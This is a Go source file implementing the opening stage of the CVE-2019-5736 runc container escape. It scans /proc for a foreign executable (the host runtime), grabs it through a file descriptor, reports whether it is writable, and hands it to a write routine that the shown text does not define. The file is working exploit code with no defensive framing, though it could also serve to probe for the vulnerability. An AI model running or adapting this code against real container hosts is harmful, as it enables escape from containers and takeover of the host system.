package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// catch lies in wait for a process whose executable is not of this container,
// and takes hold of that file, as CVE-2019-5736 begins. It says whether the file
// could be written to once nobody runs it.
func catch(words []string) error {
	var own unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &own); err != nil {
		return err
	}
	const patience = 30 * time.Second
	for deadline := time.Now().Add(patience); time.Now().Before(deadline); {
		paths, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, path := range paths {
			if fd := foreign(path, own, words); fd >= 0 {
				return tell(fd)
			}
		}
	}
	return errors.New("caught nothing")
}

// foreign opens an executable that is neither this program nor one of those
// named.
func foreign(path string, own unix.Stat_t, known []string) int {
	fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return -1
	}
	var about unix.Stat_t
	if unix.Fstat(fd, &about) == nil && about.Ino != own.Ino && !isKnown(about, known) {
		return fd
	}
	unix.Close(fd)
	return -1
}

func isKnown(file unix.Stat_t, known []string) bool {
	for _, name := range known {
		var about unix.Stat_t
		if unix.Stat(name, &about) == nil && about.Ino == file.Ino {
			return true
		}
	}
	return false
}

func tell(fd int) error {
	var filesystem unix.Statfs_t
	if err := unix.Fstatfs(fd, &filesystem); err != nil {
		return err
	}
	target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	writable := "writable"
	if filesystem.Flags&unix.ST_RDONLY != 0 {
		writable = "read-only"
	}
	fmt.Println("caught", target, writable)
	return open([]string{fmt.Sprintf("/proc/self/fd/%d", fd), "write"})
}
